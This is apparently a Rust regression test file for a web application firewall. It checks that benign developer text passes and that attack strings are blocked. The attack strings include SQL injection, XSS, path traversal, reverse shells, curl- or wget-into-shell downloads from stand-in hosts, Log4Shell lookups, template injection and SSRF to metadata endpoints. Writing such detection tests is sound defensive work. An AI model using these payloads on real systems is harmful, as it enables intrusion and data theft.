//! Requests written for this test, not taken from any corpus: technical prose of the kind
//! developer APIs carry (package descriptions, search queries, docs snippets) must pass at
//! paranoia 1, and attacks composed from each family's grammar must be blocked, whichever
//! carrier holds them (query parameter, urlencoded form, JSON string). The filter is judged on
//! requests it has never seen; these are a few of them, kept as a regression guard.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // test code: failing loudly is the point

use threat_score::{Assessment, Config, Request, Verdict};

/// Percent-encodes everything but ASCII letters and digits.
fn enc(v: &str) -> String {
    v.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() {
                char::from(b).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

fn json_string(v: &str) -> String {
    serde_json::to_string(v).unwrap()
}

/// The value in each carrier: `?q=`, a form field, a JSON member.
fn each_carrier(v: &str, check: impl Fn(&str, Assessment)) {
    let engine = Config::default().compile().unwrap();
    let host = vec![("host".to_string(), "api.example".to_string())];
    let form = vec![
        ("host".to_string(), "api.example".to_string()),
        (
            "content-type".to_string(),
            "application/x-www-form-urlencoded".to_string(),
        ),
    ];
    let json = vec![
        ("host".to_string(), "api.example".to_string()),
        ("content-type".to_string(), "application/json".to_string()),
    ];
    let uri = format!("/search?q={}", enc(v));
    check(
        "query",
        engine.inspect(&Request::new("GET", &uri).with_headers(&host)),
    );
    let body = format!("name=demo&description={}", enc(v));
    check(
        "form",
        engine.inspect(
            &Request::new("POST", "/api/packages")
                .with_headers(&form)
                .with_body(body.as_bytes()),
        ),
    );
    let body = format!(r#"{{"name":"demo","description":{}}}"#, json_string(v));
    check(
        "json",
        engine.inspect(
            &Request::new("POST", "/api/packages")
                .with_headers(&json)
                .with_body(body.as_bytes()),
        ),
    );
}

#[test]
fn technical_prose_passes() {
    for text in [
        "Async Redis client for Python with connection pooling and pub/sub",
        "Select the best match from a list of candidates using fuzzy scoring",
        "Reads environment variables from a .env file into process.env",
        "A tiny wrapper around child_process.exec() with promise support",
        "Run shell commands from Node with a nicer API than child_process.spawn()",
        "Node.js require() hook that transpiles TypeScript on the fly",
        "Lightweight ORM: define models, then query with select(), where() and order_by()",
        "Drop table rows that contain null values (pandas helper)",
        "Execute SQL files against Postgres in CI, e.g. psql -f schema.sql",
        "Converts <div> soup into clean Markdown",
        "Bash-like glob matching (*.js, src/**/*.ts) for JavaScript",
        "Read /proc/meminfo and report memory usage as JSON",
        "Use ../ to go up one directory in relative imports",
        "Windows installer: copies files to C:\\Program Files\\App and adds it to PATH",
        "Template helpers for Jinja2: {{ user.name | title }}",
        "Parse cron expressions like */5 * * * * and compute next run",
        "An alternative to `rm -rf` that moves files to the trash",
        "Ping monitor: checks if hosts are up every 30s",
        "Where does the time go? Union types, select statements and goroutines explained",
        "Replaces eval() in templates with a safe expression parser",
        "Wrapper for the wget CLI with retries",
        "Gets /etc/os-release fields (ID, VERSION_ID) as a dict",
        "python 3.12 release notes",
        "exec (",
        "select all that apply",
        "document.cookie helper with SameSite support",
        "Tail -f for cloud logs; follow multiple streams at once",
        "Grep -r replacement written in Rust",
        "Supports ${VAR} and ${VAR:-default} expansion in config files",
        "Serialize PHP objects (O:8:\"stdClass\") to JSON",
        "LDAP helper: (objectClass=person)(|(ou=sales)(ou=support)) as one filter list",
    ] {
        each_carrier(text, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Allow, "{carrier}: {text:?} -> {a:?}");
        });
    }
}

#[test]
fn attacks_composed_from_the_grammar_are_blocked() {
    for attack in [
        // SQL: break out of the string, then a tautology, a union, a stacked statement.
        "' OR 2>1 -- ",
        "\" or \"\"=\"",
        "42) UNION ALL SELECT username, password FROM accounts--",
        "x'; UPDATE users SET role='admin' WHERE name='bob'; --",
        "1 AND (SELECT 1 FROM (SELECT SLEEP(3))t)",
        // HTML that runs script: an active tag, an attribute break-out, a script URL.
        "<svg/onload=confirm(document.domain)>",
        "\"><img src=x onerror=prompt(1)>",
        "<a href=\"jAvAsCrIpT:alert(1)\">x</a>",
        // Shell: a command after a separator, a substitution, a pipe into a shell.
        "8.8.8.8 && cat /etc/shadow",
        "x|nc -e /bin/sh 10.0.0.5 4444",
        "$(curl -s http://203.0.113.9/s.sh|sh)",
        "`wget -qO- http://203.0.113.9/x | bash`",
        "a && ping -c 3 203.0.113.9",
        // Paths: traversal in either separator style to a system file.
        "....//....//....//etc/hosts",
        "..\\..\\..\\windows\\win.ini",
        // PHP, Java lookups, template injection.
        "<?php echo shell_exec($_GET['c']); ?>",
        "php://filter/convert.base64-encode/resource=index.php",
        "${jndi:rmi://203.0.113.9:1099/Exploit}",
        "${${env:NOTHING:-j}ndi:ldap://x.example/a}",
        "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
        "please steal this thing: x=document.cookie;",
        // A sentence, then a command after a separator.
        "Hello there friend; wget http://203.0.113.9/x -O /tmp/x",
        // Node.js code inside prose still counts when it calls with an argument.
        "nice library, require('child_process').execSync('id') works too",
    ] {
        each_carrier(attack, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {attack:?} -> {a:?}");
        });
    }
}

/// Legacy forms encode in Latin-1 or Windows-1252: single high bytes inside words pass at
/// paranoia 1; a broken multi-byte UTF-8 sequence standing alone does not.
#[test]
fn legacy_encodings_versus_broken_utf8() {
    let engine = Config::default().compile().unwrap();
    let host = vec![("host".to_string(), "shop.example".to_string())];
    for query in [
        "nombre=Se%F1or+P%E9rez&ciudad=M%E1laga",
        "q=rendez-vous+%E0+Paris",
        "q=caf%E9%85",
        "q=%C1ngel",
        "q=Gr%F6%DFe",
    ] {
        let uri = format!("/form?{query}");
        let a = engine.inspect(&Request::new("GET", &uri).with_headers(&host));
        assert_eq!(a.verdict, Verdict::Allow, "{query}: {a:?}");
    }
    for query in ["q=%E2%A3", "q=%C0", "q=a+%F0%9F%98+b"] {
        let uri = format!("/form?{query}");
        let a = engine.inspect(&Request::new("GET", &uri).with_headers(&host));
        assert_eq!(a.verdict, Verdict::Block, "{query}: {a:?}");
    }
}

/// Ordinary traffic of kinds the dev sets lack: code snippets in API JSON, programming
/// search queries, shell and SQL tutorials in prose, Markdown, base64 blobs, JWTs, GraphQL,
/// URLs and file names as values, non-English text. Each passes at paranoia 1 in every
/// carrier.
#[test]
fn ordinary_traffic_of_other_kinds_passes() {
    for text in [
        // SQL quoted in a sentence, SQL words in search queries.
        "Use 'SELECT 1' as a health check",
        "Run \"SELECT version();\" to see the server version",
        "what does \"union all\" do in sql",
        "SELECT is a keyword; so is FROM.",
        "Create table reservations online",
        "how to select distinct values from a table in postgres",
        "mysql delete duplicate rows keep one",
        "order by date desc limit 10",
        "Please update me; delete the old file",
        "Let's meet at 5; select a place",
        "The 'users' table has 'id' and 'name' columns",
        "ERROR 1064 (42000): You have an error in your SQL syntax",
        // Code in API payloads (Rust, C, Python, JavaScript selectors, CSS, templates).
        "fn main() { println!(\"Hello, world!\"); }",
        "int main(void) { printf(\"%d\\n\", 42); return 0; }",
        "if (a == b) { return true; }",
        "if x > 0 and y < 10 or z == 3: pass",
        "import os; print(os.getcwd())",
        "for i in range(10): print(i)",
        "$('#id').hide();",
        "<img src=\"/img/logo.png\" alt=\"Logo\">",
        "<p>Hello <b>world</b></p>",
        "Use the <iframe> sandbox attribute",
        "<svg width=\"10\" height=\"10\"><rect width=\"10\" height=\"10\"/></svg>",
        "List<Map<String, Object>> rows",
        "\"Ann Smith\" <ann@example.com>",
        "@media (max-width: 600px) { .nav { display: none; } }",
        "{% for item in items %}{{ item.name }}{% endfor %}",
        "=IF(A1>10,\"high\",\"low\")",
        // JSON documents carried as strings (JsonLogic rules, ORM-style queries) and query
        // languages of APIs (OData, Lucene).
        "{\"and\":[{\"==\":[{\"var\":\"a\"},1]}]}",
        "{\"where\":{\"id\":1},\"select\":[\"name\"]}",
        "status eq 'active' and age gt 30",
        "author:\"Ann\" AND (title:rust OR title:go)",
        "name like 'A%'",
        // Markdown, mail and chat.
        "Markdown: **bold**, _italic_, `code`, [link](https://example.com)",
        "Best regards,\n-- \nAnn",
        "I'd rather not; it's late.",
        "rock'n'roll",
        "He's 6'2\" tall",
        // Encoded blobs and tokens.
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
        // GraphQL.
        "query { repository(owner: \"octocat\", name: \"Hello-World\") { issues(last: 20) { edges { node { title } } } } }",
        "mutation { createUser(input: {name: \"Ann\", role: ADMIN}) { id } }",
        // Paths, URLs and file names.
        "../images/photo.jpg",
        "$HOME/.config",
        "${HOME}/bin",
        "C:\\Program Files (x86)\\App\\app.exe",
        "\\\\fileserver\\share\\docs",
        "s3://my-bucket/path/to/object.json",
        "git@github.com:user/repo.git",
        "backup-2024-01-01.tar.gz",
        "report_final_v2 (1).pdf",
        // Programming prose.
        "$_POST is empty in php 8",
        "shell_exec() in PHP returns output",
        "os.system() is discouraged; use subprocess.run()",
        "What does 2>&1 mean in bash?",
        "Tom & Jerry | Season 1 | Episode 3",
        "Fast, small; curl alternative written in Go",
        "Simple HTTP server (python -m http.server replacement)",
        "Netcat clone with TLS support",
        "score >= 90 && attempts < 3",
        "Total: ${amount} USD",
        // Non-English text.
        "Müller & Söhne GmbH, Düsseldorf",
        "Привет, как дела? Заказ №12345",
        "東京都渋谷区 1-2-3",
        "¿Dónde está la biblioteca?",
        "Ça coûte 15 € — d'accord ?",
    ] {
        each_carrier(text, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Allow, "{carrier}: {text:?} -> {a:?}");
        });
    }
}

/// Attacks written from each family's grammar in forms the dev sets do not show: inside a
/// sentence, with shell obfuscation inside a word, with comments for spaces, through server
/// side schemes and XML entities.
#[test]
fn attacks_in_other_forms_are_blocked() {
    for attack in [
        // Shell: a command word assembled with expansions or quotes, wherever it stands.
        "please run c${x:-a}t /etc/passwd now ok",
        "look at this: ca''t /etc/passwd",
        "ok w'h'o'a'm'i",
        "hello c$@at /etc/passwd",
        "hi there cat$IFS/etc/passwd",
        ";c\\at /et\\c/pas\\swd",
        "great article | nc 10.0.0.1 4444",
        "& certutil -urlcache -split -f http://203.0.113.9/a.exe",
        "x; curl -s evil.example/x.sh | sh",
        "| powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\"",
        "& bitsadmin /transfer x http://203.0.113.9/a.exe c:\\a.exe",
        "$(nslookup $(whoami).x.example)",
        ";socat exec:'bash -li',pty,stderr tcp:10.0.0.1:4444",
        "<%= `id` %>",
        "& net user backup P@ss1 /add",
        "x;gcc<<<'int main(){}'",
        "() { :; }; /bin/bash -c id",
        "x; echo \"<?php system(\\$_GET[1]);?>\" > /var/www/html/s.php",
        // SQL: comments for spaces, break-outs inside prose, blind shapes.
        "SELECT/**/password/**/FROM/**/users",
        "my name is ' or 1=1 -- ",
        "search term' union select password from users--",
        "1 AND 3876=(SELECT 3876 FROM PG_SLEEP(5))",
        "x' AND 1=CONVERT(int,(SELECT @@version))--",
        "admin'/**/or/**/1=1#",
        "Robert'); DROP TABLE Students;--",
        "{\"a\":\"1' or '1'='1\"}",
        // HTML and script in prose and in odd tags.
        "nice <img src=x onerror=alert(1)> pic",
        "<details open ontoggle=alert(1)>",
        "<a href=javascript&colon;alert(1)>x</a>",
        "<svg><script xlink:href=data:,alert(1)></script>",
        "<iframe src=//evil.example/x>",
        "<object data=//evil.example/x.swf>",
        "<math><a xlink:href=javascript:alert(1)>x</a></math>",
        // Paths: traversal with any separator, sensitive targets.
        "read ../../../../etc/passwd please",
        "..;/..;/..;/etc/passwd",
        "WEB-INF/web.xml",
        "~/.ssh/id_rsa",
        // Remote fetches forged for internal services, external entities.
        "gopher://127.0.0.1:6379/_SET",
        "dict://127.0.0.1:11211/stats",
        "<!ENTITY % x SYSTEM \"http://evil.example/x.dtd\">",
        "<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><x>&xxe;</x>",
        "http://169.254.169.254/latest/meta-data/",
        // PHP, Java, templates, Node.js in other spellings.
        "hello ${@print(md5(1))}",
        "print(md5(1))",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
        "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
        "a=1&a[__proto__][polluted]=yes",
    ] {
        each_carrier(attack, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {attack:?} -> {a:?}");
        });
    }
}

/// Structured carriers: a JSON API whose members hold code and prose passes; a NoSQL
/// operator as a JSON key, a localhost URL in `redirect_uri` (OAuth loopback clients) and a
/// metadata address in the same parameter are told apart.
#[test]
fn structured_carriers() {
    let engine = Config::default().compile().unwrap();
    let json = vec![
        ("host".to_string(), "api.example".to_string()),
        ("content-type".to_string(), "application/json".to_string()),
    ];
    let body = r#"{"title":"Fix parser","body":"Use `SELECT 1` as a health check; see ../docs/health.md","snippet":"if (ok) { return res.json(data); }","tags":["sql","rust"],"avatar":"data:image/png;base64,iVBORw0KGgo="}"#;
    let a = engine.inspect(
        &Request::new("POST", "/api/issues")
            .with_headers(&json)
            .with_body(body.as_bytes()),
    );
    assert_eq!(a.verdict, Verdict::Allow, "{a:?}");
    let body = r#"{"username":{"$ne":null},"password":{"$ne":null}}"#;
    let a = engine.inspect(
        &Request::new("POST", "/api/login")
            .with_headers(&json)
            .with_body(body.as_bytes()),
    );
    assert_eq!(a.verdict, Verdict::Block, "{a:?}");
    let host = vec![("host".to_string(), "auth.example".to_string())];
    let allow = "/authorize?client_id=cli&redirect_uri=http%3A%2F%2Flocalhost%3A8080%2Fcallback";
    let a = engine.inspect(&Request::new("GET", allow).with_headers(&host));
    assert_eq!(a.verdict, Verdict::Allow, "{a:?}");
    let block = "/authorize?client_id=cli&redirect_uri=http%3A%2F%2F169.254.169.254%2Flatest%2F";
    let a = engine.inspect(&Request::new("GET", block).with_headers(&host));
    assert_eq!(a.verdict, Verdict::Block, "{a:?}");
    let block = "/fetch?url=http%3A%2F%2Flocalhost%3A6379%2F";
    let a = engine.inspect(&Request::new("GET", block).with_headers(&host));
    assert_eq!(a.verdict, Verdict::Block, "{a:?}");
}

/// Headers and the path: real User-Agents and release downloads pass; a quote break-out in a
/// User-Agent (stored by analytics) and a backup archive do not.
#[test]
fn headers_and_paths() {
    let engine = Config::default().compile().unwrap();
    let with_ua = |ua: &str| {
        vec![
            ("host".to_string(), "www.example".to_string()),
            ("user-agent".to_string(), ua.to_string()),
        ]
    };
    for ua in [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
        "MyApp/1.2.3 (com.example.myapp; build:45; iOS 17.0.0) Alamofire/5.8.0",
        "Apache-HttpClient/4.5.13 (Java/11.0.19)",
    ] {
        let hs = with_ua(ua);
        let a = engine.inspect(&Request::new("GET", "/").with_headers(&hs));
        assert_eq!(a.verdict, Verdict::Allow, "{ua}: {a:?}");
    }
    let hs = with_ua("Mozilla/5.0' or 1=1--");
    let a = engine.inspect(&Request::new("GET", "/").with_headers(&hs));
    assert_eq!(a.verdict, Verdict::Block, "{a:?}");
    let hs = with_ua("curl/8.4.0");
    for (path, verdict) in [
        ("/releases/v1.2.0/app-1.2.0.tar.gz", Verdict::Allow),
        ("/downloads/archive.tgz", Verdict::Allow),
        ("/site-backup.tar.gz", Verdict::Block),
        ("/db_dump.zip", Verdict::Block),
    ] {
        let a = engine.inspect(&Request::new("GET", path).with_headers(&hs));
        assert_eq!(a.verdict, verdict, "{path}: {a:?}");
    }
}

/// More ordinary traffic the dev sets lack, written for this test: shell and SQL named in
/// prose and search queries, Markdown, base64 and tokens, non-English text with
/// apostrophes, GraphQL with variables, code snippets of other languages, CI and Helm
/// templates. Each passes at paranoia 1 in every carrier.
#[test]
fn more_ordinary_traffic_passes() {
    for text in [
        // Shell and SQL named in prose, programming search queries.
        "To list files, type ls -la in the terminal",
        "Use `grep -rn TODO src/` to find the todos",
        "Run `docker compose up -d` then open localhost:8080",
        "The WHERE clause filters rows; AND binds tighter than OR",
        "Use COUNT(*) to count rows and GROUP BY to bucket them",
        "sum(price) over (partition by customer)",
        "python list comprehension if else",
        "c++ std::vector push_back vs emplace_back",
        "rust Option<T> unwrap_or_else",
        "git reset --hard HEAD~1",
        "regex ^[a-z0-9_-]{3,16}$",
        "powershell get-childitem recurse",
        "how do I kill a process on port 3000",
        "what is the difference between cat and less",
        "wget vs curl: which to use?",
        "/usr/local/bin is on my PATH",
        "We'll select the winners and union them into one team",
        "Order 66 -- executed",
        "Sleep(8 hours) is important",
        "eval is evil",
        "on error resume next",
        "the \"onload\" event fires after the page loads",
        // Markdown and mail.
        "# Title\n\n- item 1\n- item 2\n\n```python\nprint('hi')\n```",
        "> quoted text\n\n| a | b |\n|---|---|\n| 1 | 2 |",
        "Hi Bob,\n\nPlease find attached the report.\n\nThanks,\nAlice",
        // Base64 blobs, whatever they decode to: nothing decodes base64 at paranoia 1.
        "SGVsbG8sIFdvcmxkIQ==",
        "U0VMRUNUICogRlJPTSB1c2VycyBXSEVSRSAxPTE=",
        "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        // Non-English text with apostrophes and scripts of other languages.
        "l'école d'été commence lundi",
        "Com'è andata? Tutto bene, grazie",
        "İstanbul'da hava nasıl?",
        "مرحبا بالعالم",
        "नमस्ते दुनिया",
        "안녕하세요 세계",
        "Great job 🎉🚀 see you at 5pm",
        // GraphQL with variables, URLs, file names, names with apostrophes.
        "query($id: ID!) { user(id: $id) { name email } }",
        "{\"query\":\"query { viewer { login } }\",\"variables\":{}}",
        "https://www.google.com/url?sa=t&url=https%3A%2F%2Fexample.com%2Fpage",
        "résumé (final).docx",
        "IMG_2024-01-01_12-00-00.HEIC",
        "passwd-reset-instructions.pdf",
        "D'Angelo's Pizza & Grill",
        "O'Reilly Media - Learning SQL, 3rd edition",
        "+1 (555) 123-4567 ext. 22; ask for Bob",
        "1' tall shelf",
        "It's a 'must-have' for 'beginners'",
        // Code of other languages and templates of CI, Helm, Jinja, ERB.
        "function() { return this; }",
        "constructor() { super(); }",
        "System.out.println(\"hello\");",
        "Console.WriteLine($\"Hello {name}\");",
        "date_add(now(), interval 8 hour)",
        "cast(x as char)",
        "${{ secrets.GITHUB_TOKEN }}",
        "{{ .Values.image.tag }}",
        "{{ user.first_name }}",
        "<%= link_to 'Home', root_path %>",
        "x = y || z",
        "2 * (3 + 4) = 14",
        // Package summaries naming what they handle.
        "A fast JSON parser for C++ with SIMD; parse 1 GB/s",
        "CLI tool to convert CSV to SQL INSERT statements",
        "Lint your Dockerfile; warns about RUN apt-get update without install",
        "Helper for building WHERE clauses: where(\"age > ?\", 18)",
        "Simple ORM: User.select(:id, :name).where(active: true).order(created_at: :desc)",
        "Validate JSON against a schema; supports $ref and $id",
        "Parse `${VAR:-default}` in docker-compose files",
        "Escape HTML entities like &lt; &gt; &amp; &quot; in strings",
        "Prevents SQL injection by escaping ' and \\ in user input",
        "Path traversal checker: rejects ../ in uploaded file names",
        "SQL formatter: turns 'select a,b from t where x=1' into pretty SQL",
        "Netlify redirect rules: /old/* /new/:splat 301",
        "Copies /srv/www/*.html to the bucket",
        "Patch for CVE-2021-44228 (log4j JNDI lookups disabled)",
        "Detects ${jndi: patterns in logs",
        "The system() call in C runs a shell command",
        "Delete from cart button not working",
        "Update: drop support for Python 3.7",
        "x' is fine by me",
        "Mon-Fri 9:00-17:00; Sat 10:00-14:00",
        "Price: $10 (was $15) -- 33% off!",
        "Item #4 - 'Deluxe' edition",
        // Version constraints, legacy form field names and CSS values.
        "node >= 18",
        "Let's meet at 5; sleep 8 hours",
        "Best sellers | Top 10",
        "Step 1; wait 5",
        "python <= 3.11",
        "~1.2.3 || ^2.0.0",
        "ctl00$MainContent$txtSearch",
        "javax.faces.ViewState",
        "calc(100% - 20px)",
        "a[href^=\"http\"]::after { content: \"↗\" }",
        "SELECT/INSERT/UPDATE privileges",
        "%USERPROFILE%\\AppData\\Local",
        "./configure --prefix=/usr/local",
    ] {
        each_carrier(text, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Allow, "{carrier}: {text:?} -> {a:?}");
        });
    }
}

/// Attacks obfuscated the ways the grammar allows: case, versioned and inline comments,
/// concatenation, hex and `CHAR()` literals, entities, tagged templates, encodings of the
/// separator, shell expansions standing for spaces and brace lists, template engines and
/// lookups of other products, serialized objects.
#[test]
fn obfuscated_attacks_are_blocked() {
    for attack in [
        // SQL.
        "uNiOn sElEcT password FrOm users",
        "1 /*!50000union*/ /*!50000select*/ 1,2,3",
        "1 UNION\nSELECT 1",
        "x' oR 'a'='a",
        "1'||'1'='1",
        "admin'--",
        "' union select char(97,100,109,105,110)--",
        "'+(select top 1 name from sysobjects)+'",
        "1 and 0x61646d696e=0x61646d696e",
        "1;waitfor delay '0:0:5'--",
        "1 or sleep(5)#",
        "' and extractvalue(1,concat(0x7e,version()))--",
        "1' and substring(@@version,1,1)='5",
        "' having 1=1--",
        "-1 union select null,table_name from information_schema.tables--",
        // HTML and script.
        "<ScRiPt>alert(1)</sCrIpT>",
        "<img src=x oNeRrOr=alert`1`>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<body onpageshow=alert(1)>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
        "';alert(String.fromCharCode(88,83,83))//",
        "</script><script>alert(1)</script>",
        "<input autofocus onfocus=alert(1)>",
        "<style>@import'//evil.example/x.css';</style>",
        "<form action=javascript:alert(1)><input type=submit>",
        "<img src=\"x\" onerror=\"eval(atob('YWxlcnQoMSk='))\">",
        "(function(){ alert(1) })()",
        // Paths.
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "..%c0%af..%c0%afetc/passwd",
        "..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts",
        "/var/www/../../etc/shadow",
        "file:///c:/windows/win.ini",
        "/proc/self/environ",
        // Shell.
        ";${IFS}cat${IFS}/etc/passwd",
        "|| whoami",
        "$(echo aWQ= | base64 -d | sh)",
        "; python -c 'import socket,subprocess,os'",
        "; perl -e 'exec \"/bin/sh\";'",
        "& powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIAA=",
        "{cat,/etc/passwd}",
        ";nc -lvp 4444 -e /bin/bash",
        "1;sleep${IFS}5",
        // Templates, Java, PHP, LDAP, SSRF, lookups.
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
        "*{T(java.lang.Runtime).getRuntime().exec('id')}",
        "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==",
        "new java.lang.ProcessBuilder(\"id\").start()",
        "phar://./uploads/avatar.jpg/test.txt",
        "expect://id",
        "eval(base64_decode('c3lzdGVtKCJpZCIpOw=='));",
        "<?= system($_GET[0]) ?>",
        "*)(uid=*))(|(uid=*",
        "http://[::1]:22/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "${${lower:j}${lower:n}${lower:d}${lower:i}:ldap://x.example/a}",
        "${j${::-n}di:ldap://x.example/a}",
        "<!--#include virtual=\"/etc/passwd\" -->",
        "{\"$where\":\"sleep(1000)\"}",
        "constructor[prototype][isAdmin]=true",
        // Shapes next to the prose ones above: a glob for letters of a name, `IS NULL`
        // after a quote, a complete DELETE, a closed lookup.
        "/usr/bin/ca* /et?/passwd",
        "/???/??t /???/p??s??",
        "id >/tmp/x",
        // Time-based blind command injection: a program and a count after a separator.
        ";sleep 5;",
        "`sleep 5`",
        "a\nsleep 5",
        "' is null--",
        "delete from users where 1=1",
        "${jndi:dns://x.example/a}",
    ] {
        each_carrier(attack, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {attack:?} -> {a:?}");
        });
    }
}

fn header_request(name: &str, value: &str) -> Assessment {
    let engine = Config::default().compile().unwrap();
    let hs = vec![
        ("host".to_string(), "www.example".to_string()),
        (name.to_string(), value.to_string()),
    ];
    engine.inspect(&Request::new("GET", "/").with_headers(&hs))
}

/// Cookies and request headers: what browsers, SDKs and crawlers send passes; an attack in
/// a cookie value or in a header an application logs or reflects is blocked.
#[test]
fn cookies_and_headers() {
    for (name, value) in [
        (
            "cookie",
            "_ga=GA1.2.1234567890.1600000000; _gid=GA1.2.987654321.1600000000",
        ),
        (
            "cookie",
            "session=eyJhbGciOiJIUzI1NiJ9.eyJ1c2VyIjoiYW5uIn0.abc-def_ghi; theme=dark; lang=en-US",
        ),
        (
            "cookie",
            "cart=%7B%22items%22%3A%5B%7B%22id%22%3A12%2C%22qty%22%3A2%7D%5D%7D",
        ),
        (
            "cookie",
            "prefs={\"tz\":\"Europe/Berlin\",\"cols\":[\"name\",\"date\"]}",
        ),
        (
            "cookie",
            "consent=necessary:true|analytics:false|marketing:false",
        ),
        ("cookie", "last_search=select+a+plan; recent=../docs/intro"),
        ("cookie", "returnTo=/account/orders?page=2&sort=date"),
        (
            "cookie",
            "AWSALB=Zx8/hV1m+4kqZp0lzL6Q==; AWSALBCORS=Zx8/hV1m+4kqZp0lzL6Q==",
        ),
        ("cookie", "name=O'Brien; city=Coeur d'Alene"),
        ("authorization", "Basic dXNlcjpwYXNzd29yZA=="),
        (
            "referer",
            "https://www.google.com/search?q=how+to+select+from+two+tables+sql",
        ),
        (
            "referer",
            "https://stackoverflow.com/questions/123/why-does-rm-rf-not-work",
        ),
        (
            "user-agent",
            "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/UD1A.230803.041)",
        ),
        (
            "user-agent",
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        ),
        (
            "user-agent",
            "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
        ),
        ("user-agent", "python-requests/2.31.0"),
        ("if-none-match", "W/\"5e15153d-120f\""),
    ] {
        let a = header_request(name, value);
        assert_eq!(a.verdict, Verdict::Allow, "{name}: {value:?} -> {a:?}");
    }
    for (name, value) in [
        ("cookie", "session=1' or '1'='1"),
        ("cookie", "lang=../../../../etc/passwd"),
        ("cookie", "theme=${jndi:ldap://x.example/a}"),
        ("cookie", "pref=<script>alert(1)</script>"),
        ("cookie", "id=1 union select password from users--"),
        ("cookie", "x=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
        ("user-agent", "() { :; }; /bin/bash -c 'id'"),
        ("user-agent", "Mozilla/5.0' and sleep(5)#"),
        ("user-agent", "Mozilla/5.0 <script>alert(1)</script>"),
        ("x-forwarded-for", "127.0.0.1' or 1=1--"),
        ("referer", "https://evil.example/<script>alert(1)</script>"),
        ("x-api-version", "${jndi:ldap://x.example/a}"),
    ] {
        let a = header_request(name, value);
        assert_eq!(a.verdict, Verdict::Block, "{name}: {value:?} -> {a:?}");
    }
}

fn body_request(content_type: &str, body: &str) -> Assessment {
    body_request_typed(Some(content_type), body)
}

/// Each of `passes` as a POST body of `content_type` (none: no header) is allowed, each of
/// `blocks` blocked.
fn bodies_both_ways<B: AsRef<str>>(content_type: Option<&str>, passes: &[B], blocks: &[B]) {
    for (bodies, verdict) in [(passes, Verdict::Allow), (blocks, Verdict::Block)] {
        for body in bodies {
            let a = body_request_typed(content_type, body.as_ref());
            assert_eq!(a.verdict, verdict, "{:?}: {a:?}", body.as_ref());
        }
    }
}

/// A POST of `body` with its length, and a Content-Type when one is given.
fn body_request_typed(content_type: Option<&str>, body: &str) -> Assessment {
    let engine = Config::default().compile().unwrap();
    let mut hs = vec![
        ("host".to_string(), "api.example".to_string()),
        ("content-length".to_string(), body.len().to_string()),
    ];
    if let Some(ct) = content_type {
        hs.push(("content-type".to_string(), ct.to_string()));
    }
    engine.inspect(
        &Request::new("POST", "/api/items")
            .with_headers(&hs)
            .with_body(body.as_bytes()),
    )
}

/// XML and multipart bodies: documents and uploads of ordinary applications pass; the same
/// attacks as elsewhere in an element, an attribute, a CDATA section, a form part or an
/// upload's file name are blocked.
#[test]
fn xml_and_multipart_bodies() {
    bodies_both_ways(
        Some("application/xml"),
        &[
            "<?xml version=\"1.0\"?><order id=\"42\"><item sku=\"A-1\" qty=\"2\">Coffee &amp; tea</item><note>Leave at the door; ring twice</note></order>",
            "<feed xmlns=\"http://www.w3.org/2005/Atom\"><title>Release notes</title><entry><content type=\"html\">&lt;p&gt;Fixed &lt;b&gt;bugs&lt;/b&gt;&lt;/p&gt;</content></entry></feed>",
            "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><GetUser><Name>O'Brien</Name></GetUser></soap:Body></soap:Envelope>",
            "<config><path>/var/lib/app/data</path><query>select a plan</query></config>",
        ],
        &[
            "<user><name>' UNION SELECT password FROM users--</name></user>",
            "<comment><![CDATA[<script>alert(1)</script>]]></comment>",
            "<file path=\"../../../../etc/passwd\"/>",
            "<cmd>;cat /etc/shadow</cmd>",
            "<a><b><c><d>${jndi:ldap://x.example/a}</d></c></b></a>",
        ],
    );
    let part = |headers: &str, content: &str| {
        format!("--XyZ\r\n{headers}\r\n\r\n{content}\r\n--XyZ--\r\n")
    };
    let passes = [
        part(
